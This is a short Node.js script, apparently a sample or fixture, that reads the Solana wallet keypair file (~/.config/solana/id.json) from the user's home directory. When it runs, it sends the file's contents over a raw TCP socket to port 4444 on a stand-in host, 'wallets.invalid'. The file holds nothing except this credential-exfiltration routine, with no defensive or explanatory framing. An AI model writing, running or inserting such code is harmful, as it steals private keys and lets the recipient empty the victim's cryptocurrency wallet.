const fs = require("fs");
const net = require("net");
const os = require("os");
const path = require("path");
class Reader {
  constructor(home) {
    this.folder = path.join(home, ".config", "solana");
  }
  read() {
    return fs.readFileSync(path.join(this.folder, "id.json"), "utf8");
  }
}
const socket = net.connect(4444, "wallets.invalid", () => {
  socket.write(new Reader(os.homedir()).read());
  socket.end();
});
